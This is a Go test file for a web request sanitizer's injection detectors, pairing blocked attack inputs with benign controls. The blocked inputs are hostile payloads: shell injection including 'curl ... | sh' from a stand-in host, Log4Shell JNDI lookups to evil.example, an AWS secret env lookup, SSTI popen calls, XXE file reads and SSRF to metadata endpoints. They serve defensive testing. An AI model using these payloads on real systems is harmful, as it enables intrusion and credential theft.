package sanitize_test

import (
	"testing"

	"github.com/wasmward/wasmward/shared/harness"
)

// Detectors of issue 17 item 4 through the glue in native, wasm and strict-host mode (make build
// first: dist/sanitize.wasm): each rule with attacks in several positions and encodings, next to
// benign controls that must pass with the default config.

func withHeader(path, name, value string) harness.Request {
	return harness.Request{Path: path, Headers: [][2]string{{name, value}}}
}

const form = "application/x-www-form-urlencoded"

func TestDetectorsDefaultOn(t *testing.T) {
	cases := []harness.Case{
		// cmd_injection, on by default everywhere.
		denied("cmd: ;cat in a query", get("/s?host=example.com%3Bcat%20/tmp/x"), 403, "cmd_injection"),
		denied("cmd: | id", get("/s?q=1%20%7C%20id"), 403, "cmd_injection"),
		denied("cmd: && whoami in a form", post("/s", form, "ip=127.0.0.1+%26%26+whoami"), 403, "cmd_injection"),
		denied("cmd: $() in JSON", post("/s", "application/json", `{"name":"a$(whoami)"}`), 403, "cmd_injection"),
		denied("cmd: backticks in a cookie", withHeader("/s", "cookie", "c=x%60id%60"), 403, "cmd_injection"),
		denied("cmd: ${IFS}", get("/s?q=%3Bcat%24%7BIFS%7D/tmp/x"), 403, "cmd_injection"),
		denied("cmd: sleep after a newline", get("/s?q=a%0Asleep%205"), 403, "cmd_injection"),
		denied("cmd: Windows & dir", get("/s?q=x%20%26%20dir"), 403, "cmd_injection"),
		denied("cmd: cmd.exe /c", get("/s?q=cmd.exe%20/c%20ver"), 403, "cmd_injection"),
		denied("cmd: powershell -enc", get("/s?q=powershell%20-enc%20SQBFAFgA"), 403, "cmd_injection"),
		denied("cmd: curl | sh in a multipart part", post("/s", "multipart/form-data; boundary=b",
			"--b\r\nContent-Disposition: form-data; name=\"u\"\r\n\r\nx; curl http://e.example/a | sh\r\n--b--\r\n"), 403, "cmd_injection"),
		denied("cmd: c''at obfuscation", get("/s?q=%3Bc%27%27at%20/tmp/x"), 403, "cmd_injection"),
		denied("cmd: /???/c?t glob", get("/s?q=%3B/%3F%3F%3F/c%3Ft%20/tmp/x"), 403, "cmd_injection"),
		denied("cmd: double URL encoding", get("/s?q=%253Bwhoami"), 403, "cmd_injection"),
		denied("cmd: HTML entity separator", get("/s?q=x%26%2359%3Bwhoami"), 403, "cmd_injection"),
		denied("cmd: fullwidth semicolon", get("/s?q=x%EF%BC%9Bwhoami"), 403, "cmd_injection"),
		passes("control: Tom & Jerry; cats | dogs", get("/s?q=Tom+%26+Jerry%3B+cats+%7C+dogs")),
		passes("control: prices", get("/s?q=%245+or+%2410+%26+free+shipping")),
		passes("control: prose with a command word", post("/s", form, "msg=My+dog%3B+cat+people+are+weird&x=passport+%26+ID")),
		passes("control: a list of languages", post("/s", "application/json", `{"skills":"Java; PHP; Python; Ruby"}`)),
		passes("control: code with && and ||", post("/s", "application/json", `{"code":"x = items.filter(i => i.ok || i.force); done();"}`)),
		passes("control: URL and e-mail", get("/s?next=https%3A%2F%2Fexample.com%2Fbin%2Fdownload%3Fid%3D5&mail=jane.doe%40example.com")),

		// crlf
		denied("crlf: Set-Cookie after CRLF in a query", get("/s?next=/home%0D%0ASet-Cookie:%20sid=x"), 403, "crlf"),
		denied("crlf: status line in a form", post("/s", form, "lang=en%0D%0A%0D%0AHTTP/1.1+200+OK"), 403, "crlf"),
		denied("crlf: double-encoded Location", get("/s?r=x%250d%250aLocation:%20http://evil.example/"), 403, "crlf"),
		denied("crlf: LF in a path segment", get("/s/a%0Ab"), 403, "crlf"),
		passes("control: multi-line address", post("/s", form, "addr=12+Main+St%0D%0ALocation%3A+Dublin%0D%0ADate%3A+Monday")),
		denied("crlf: SMTP command after CRLF in a query", get("/s?to=%0D%0ARCPT%20TO%3A%3Cpostmaster%3E"), 403, "crlf"),
		denied("crlf: POP3 command after CRLF in a form", post("/s", form, "m=%0D%0ARETR+1"), 403, "crlf"),
		denied("crlf: a bare CR in a query", get("/s?a=test%0Dnext=more"), 403, "crlf"),
		passes("control: a textarea's CR LF in a form", post("/s", form, "m=line1%0D%0Aline2")),
		passes("control: lines of prose that open with mail verbs", post("/s", form, "m=Hello%0D%0AQuit+smoking%0D%0AList+of+items%0D%0AData")),

		// ssti
		denied("ssti: {{7*7}}", get("/s?name=%7B%7B7*7%7D%7D"), 403, "ssti"),
		denied("ssti: <%= %> in JSON", post("/s", "application/json", `{"name":"<%= 7*7 %>"}`), 403, "ssti"),
		denied("ssti: Jinja globals", post("/s", form, "n=%7B%7Bcycler.__init__.__globals__.os.popen('id').read()%7D%7D"), 403, "ssti"),
		denied("ssti: {{config}}", get("/s?name=%7B%7Bconfig%7D%7D"), 403, "ssti"),
		denied("ssti: FreeMarker assign", get("/s?t=%3C%23assign+ex%3D1%3E"), 403, "ssti"),
		denied("ssti: Velocity #set", get("/s?t=%23set(%24x%3D1)"), 403, "ssti"),
		passes("control: mustache placeholder", get("/s?tpl=Hello+%7B%7Bname%7D%7D")),
		passes("control: template with filters", post("/s", "application/json", `{"tpl":"{% if user %}Hi {{ user.first_name | title }}{% endif %}"}`)),

		// ldap
		denied("ldap: filter breakout", post("/s", form, "user=*)(uid=*))(|(uid=*"), 403, "ldap"),
		denied("ldap: presence filter", get("/s?u=(objectClass%3D*)"), 403, "ldap"),
		passes("control: parentheses in prose", get("/s?q=(see+above)(and+below)")),

		// xxe
		denied("xxe: ENTITY in a form value", post("/s", form, "x=%3C!ENTITY+xxe+SYSTEM+%22file:///etc/hostname%22%3E"), 403, "xxe"),
		denied("xxe: parameter entity in JSON", post("/s", "application/json", `{"x":"%xxe;"}`), 403, "xxe"),
		passes("control: percentages", get("/s?q=50%25%3B+20%25")),

		// jndi
		denied("jndi: log4shell in the User-Agent", withHeader("/s", "user-agent", "${jndi:ldap://evil.example/a}"), 403, "jndi"),
		denied("jndi: nested lower lookup", get("/s?q=%24%7B%24%7Blower:j%7Dndi:ldap://x/a%7D"), 403, "jndi"),
		denied("jndi: default-value obfuscation in JSON", post("/s", "application/json", `{"q":"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"}`), 403, "jndi"),
		denied("jndi: env lookup", withHeader("/s", "referer", "https://a.example/${env:AWS_SECRET_ACCESS_KEY}"), 403, "jndi"),
		passes("control: JavaScript template literal", post("/s", "application/json", `{"code":"const s = `+"`${user.name}: ${count}`"+`;"}`)),

		// nosql
		denied("nosql: operator in a parameter name", get("/s?user%5B%24ne%5D=x"), 403, "nosql"),
		denied("nosql: operator key in JSON", post("/s", "application/json", `{"password":{"$gt":""}}`), 403, "nosql"),
		denied("nosql: $where", post("/s", "application/json", `{"$where":"sleep(100)"}`), 403, "nosql"),
		passes("control: dollar amounts", get("/s?q=%245+or+%2410")),

		// php_injection, java_injection, code_injection, ssrf
		denied("php: open tag in a query", get("/s?cmd=%3C%3Fphp+system(%27id%27)%3B+%3F%3E"), 403, "php_injection"),
		denied("php: wrapper in a form", post("/s", form, "page=php%3A%2F%2Ffilter%2Fresource%3Dindex"), 403, "php_injection"),
		denied("php: superglobal in JSON", post("/s", "application/json", `{"x":"$_SERVER['HTTP_HOST'];"}`), 403, "php_injection"),
		denied("php: dynamic call in a cookie", withHeader("/s", "cookie", "c=%24__%5B%27o%27%5D(5)"), 403, "php_injection"),
		denied("php: a .php file uploaded", post("/s", "multipart/form-data; boundary=b",
			"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"avatar.php5.\"\r\nContent-Type: image/png\r\n\r\nGIF89a\r\n--b--\r\n"), 403, "php_injection"),
		denied("php: a session file named in X-Filename", withHeader("/s", "x-filename", "sess_0123456789abcdefghij"), 403, "php_injection"),
		denied("restricted upload: an application's configuration file", post("/s", "multipart/form-data; boundary=b",
			"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"config.yml\"\r\nContent-Type: text/yaml\r\n\r\na: 1\r\n--b--\r\n"), 403, "path_traversal"),
		passes("control: a file named like a configuration file", post("/s", "multipart/form-data; boundary=b",
			"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"config.yml.png\"\r\nContent-Type: image/png\r\n\r\nGIF89a\r\n--b--\r\n")),
		denied("php: php.ini directive in a form", post("/s", form, "v=allow_url_include%3D1"), 403, "php_injection"),
		denied("php: variable variable", get("/s?x=%24%20%7B%24a%7D"), 403, "php_injection"),
		denied("php: concatenated callee", get("/s?x=(sy.(st).em)(%27uname%27)%3B"), 403, "php_injection"),
		denied("php: a braced variable alone", get("/s?foo=%24%7Ba%7D"), 403, "php_injection"),
		denied("php: a built-in C shares, alone", get("/s?test=printf(foo)"), 403, "php_injection"),
		denied("php: a built-in C shares, on a variable, in JSON", post("/s", "application/json", `{"x":"strlen($x)"}`), 403, "php_injection"),
		denied("php: a quoted name called as a statement, in a form", post("/s", form, "c=%27sys%27.%27tem%27(ls)%3B"), 403, "php_injection"),
		passes("control: a template placeholder in text", post("/s", "application/json", `{"tpl":"Total: ${price}"}`)),
		passes("control: C code calling printf", post("/s", "application/json", `{"code":"printf(\"%d\", n);"}`)),
		passes("control: an image uploaded", post("/s", "multipart/form-data; boundary=b",
			"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"php-logo.png\"\r\nContent-Type: image/png\r\n\r\nGIF89a\r\n--b--\r\n")),
		passes("control: a settings form", post("/s", form, "engine=v8&precision=2&smtp=mail.example.com")),
		passes("control: maths", get("/s?q=(a%2Bb)(c-d)")),
		denied("java: gadget class in JSON", post("/s", "application/json", `{"x":"org.apache.commons.collections.functors.InvokerTransformer"}`), 403, "java_injection"),
		denied("java: serialized object in a cookie", withHeader("/s", "cookie", "s=rO0ABXNyABdqYXZh"), 403, "java_injection"),
		denied("code: node-serialize", post("/s", "application/json", `{"x":"_$$ND_FUNC$$_function(){require('child_process')}"}`), 403, "code_injection"),
		denied("code: prototype pollution in a parameter name", get("/s?__proto__%5Badmin%5D=1"), 403, "code_injection"),
		denied("ssrf: metadata endpoint", get("/s?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"), 403, "ssrf"),
		denied("ssrf: decimal loopback", post("/s", "application/json", `{"webhook":"http://2130706433/admin"}`), 403, "ssrf"),
		passes("control: prose about the system", get("/s?q=the+system+(which+is+down)")),
		passes("control: a stack trace", post("/s", "application/json", `{"log":"java.lang.RuntimeException: boom\n\tat java.lang.Thread.run(Thread.java:750)"}`)),
		passes("control: an external callback URL", get("/s?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback")),

		// scanner
		denied("scanner: sqlmap", withHeader("/s", "user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"), 403, "scanner"),
		denied("scanner: Nmap NSE", withHeader("/s", "user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"), 403, "scanner"),
		denied("scanner: nuclei", withHeader("/s", "user-agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"), 403, "scanner"),
		passes("control: curl", withHeader("/s", "user-agent", "curl/8.5.0")),
		passes("control: python-requests", withHeader("/s", "user-agent", "python-requests/2.31.0")),
		passes("control: Go-http-client", withHeader("/s", "user-agent", "Go-http-client/1.1")),
		passes("control: a referer naming a scanner word", withHeader("/s", "referer", "https://en.wikipedia.org/wiki/Atomic_nuclei")),
	}
	harness.RunCases(t, mustDefinition(), envelope(`{}`), cases)
}

// Every new rule has a mode, an allow-list entry and sanitize support like the older injection
// rules; commandFields keeps its strict meaning.
func TestDetectorsConfig(t *testing.T) {
	t.Run("modes per rule", func(t *testing.T) {
		harness.RunCases(t, mustDefinition(), envelope(`{"rules":{"cmd_injection":"detect","scanner":"detect","ssti":"sanitize"}}`), []harness.Case{
			passes("cmd_injection in detect mode", get("/s?q=%3Bwhoami")),
			passes("scanner in detect mode", withHeader("/s", "user-agent", "sqlmap/1.7")),
			{Name: "ssti parameter sanitized", Request: get("/s?a=1&name=%7B%7B7*7%7D%7D&b=2"),
				Want: harness.Expect{Status: 200, Forwarded: map[string]string{":path": "/s?a=1&b=2"}}},
			denied("other rules still reject", get("/s?u=*)(uid%3D*"), 403, "ldap"),
		})
	})
	t.Run("allow list per new rule", func(t *testing.T) {
		harness.RunCases(t, mustDefinition(), envelope(`{"allow":[{"rule":"cmd_injection","location":"json.script"},{"rule":"ssti","location":"query.tpl"},{"rule":"crlf","location":"form.*"}]}`), []harness.Case{
			passes("cmd_injection allowed at json.script", post("/s", "application/json", `{"script":"ls -la; cat /tmp/x | grep y"}`)),
			denied("cmd_injection elsewhere", post("/s", "application/json", `{"other":"ls -la; cat /tmp/x | grep y"}`), 403, "cmd_injection"),
			passes("ssti allowed at query.tpl", get("/s?tpl=%7B%7B7*7%7D%7D")),
			passes("crlf allowed in forms", post("/s", form, "r=a%0D%0ASet-Cookie:+x%3D1")),
		})
	})
	t.Run("commandFields stays strict", func(t *testing.T) {
		harness.RunCases(t, mustDefinition(), envelope(`{"commandFields":["query.host"]}`), []harness.Case{
			denied("any metacharacter in a command field", get("/s?host=a%26b"), 403, "cmd_injection"),
			passes("the same elsewhere", get("/s?note=a%26b")),
		})
	})
}
